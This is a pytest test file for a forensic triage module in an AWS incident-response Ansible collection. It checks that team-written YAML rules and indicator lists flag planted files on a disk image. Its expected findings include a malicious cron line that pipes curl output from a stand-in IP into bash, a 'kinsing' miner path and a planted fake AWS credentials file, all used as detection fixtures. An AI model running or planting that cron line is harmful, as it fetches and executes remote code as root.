# Copyright (c) 2026 The dfir.aws authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""A team's own rules and lists: what they find, and what is refused in one sentence."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest
import yaml
from ansible_collections.dfir.aws.plugins.module_utils.ebs.errors import BadInput
from ansible_collections.dfir.aws.plugins.module_utils.triage.rules import Rules, load

from tests.kit import CHECKOUT
from tests.unit.triage.triage_kit import SYSTEM, ext4, tree, triage

pytestmark = pytest.mark.slow

GOOD = {"id": "campaign", "severity": "high", "reason": "of the campaign", "paths": ["/etc/cron.d/*"]}
TOOL = b"\x7fELF a tool that somebody brought"


def found(tmp_path: Path, rules: Rules) -> list[tuple[str, str, str, str]]:
    """Rule, path, severity and excerpt of what rules find on the small system."""
    folder = tree(tmp_path / "root", {**SYSTEM, "opt/tool": TOOL, "home/deploy/notes": "see evil.example\n"})
    (folder / "opt/tool").chmod(0o755)
    image = ext4(tmp_path / "root.img", folder)
    return [(item["rule"], item["path"], item["severity"], item["excerpt"])
            for item in triage(image, rules=rules).report()["findings"] if item["kind"] in ("rule", "indicator")]


def of(tmp_path: Path, *rules: object, indicators: str = "") -> Rules:
    (tmp_path / "team.yml").write_text(yaml.safe_dump(list(rules)))
    (tmp_path / "seen.txt").write_text(indicators)
    return load([tmp_path / "team.yml"], [tmp_path / "seen.txt"])


def test_a_path_a_pattern_and_words(tmp_path: Path) -> None:
    rules = of(tmp_path, GOOD, {**GOOD, "id": "words", "words": ["evil\\.example", "198\\.51\\.100\\.7"],
                                "paths": ["/home/*/notes", "/etc/cron.d/g?", "/etc/absent"]},
               {**GOOD, "id": "deep", "paths": ["/home/*"], "words": ["evil"]})
    assert found(tmp_path, rules) == [
        ("campaign", "/etc/cron.d/gc", "high", ""),
        ("words", "/etc/cron.d/gc", "high", "*/10 * * * * root curl -s http://198.51.100.7/x | bash"),
        ("words", "/home/deploy/notes", "high", "see evil.example")]


def test_hashes_paths_and_words_of_a_list(tmp_path: Path) -> None:
    digest = hashlib.sha256(TOOL).hexdigest().upper()
    rules = of(tmp_path, indicators=f"{digest}  # the tool\n/etc/cron.d/gc\n# nothing\n\nFREEDOM\n198.51.100.7\n")
    assert {(rule, path) for rule, path, _severity, _excerpt in found(tmp_path, rules)} == {
        ("known_hash", "/opt/tool"), ("path_seen", "/etc/cron.d/gc"), ("word_seen", "/etc/cron.d/gc")}


@pytest.mark.parametrize(("text", "said"), [
    ("- {", "is no YAML"), ("id: x", "a list of rules"), ("- id: x", "needs id, severity, reason and paths"),
    (yaml.safe_dump([{**GOOD, "id": "Not This"}]), "small letters"),
    (yaml.safe_dump([{**GOOD, "severity": "awful"}]), "one of info, low"),
    (yaml.safe_dump([{**GOOD, "paths": ["etc/x"]}]), "absolute paths"),
    (yaml.safe_dump([{**GOOD, "words": ["("]}]), "no regular expression"),
    (yaml.safe_dump([{**GOOD, "more": 1}]), "may have kind and words"),
    (yaml.safe_dump([GOOD, GOOD]), "there is a rule campaign")])
def test_what_cannot_be_used_is_refused_in_one_sentence(tmp_path: Path, text: str, said: str) -> None:
    (tmp_path / "team.yml").write_text(text)
    with pytest.raises(BadInput, match=said) as caught:
        load([tmp_path / "team.yml"])
    assert str(tmp_path / "team.yml") in str(caught.value) and "\n" not in str(caught.value)


def test_a_file_that_is_not_there_is_named(tmp_path: Path) -> None:
    for rules, lists in (([tmp_path / "x.yml"], []), ([], [tmp_path / "x.yml"])):
        with pytest.raises(BadInput, match=r"x\.yml cannot be read"):
            load(rules, lists)


def test_the_roles_own_rules_can_be_used_and_are_silent_on_a_clean_system(tmp_path: Path) -> None:
    files = sorted((CHECKOUT / "roles/triage/files").glob("*.yml"))
    rules = load(files)
    assert len(files) >= 2 and len(rules.rules) >= 6
    image = ext4(tmp_path / "root.img", tree(tmp_path / "root", SYSTEM))
    ids = {rule.id for rule in rules.rules}
    assert not [item for item in triage(image, rules=rules).report()["findings"] if item["rule"] in ids]
    planted = tree(tmp_path / "root", {"tmp/kinsing": "x",
                                       "home/deploy/.aws/credentials": "key = AKIAABCDEFGHIJKLMNOP\n"})
    kinds = {item["rule"] for item in triage(ext4(image, planted), rules=rules).report()["findings"]}
    assert {"kinsing", "aws_credentials"} <= kinds
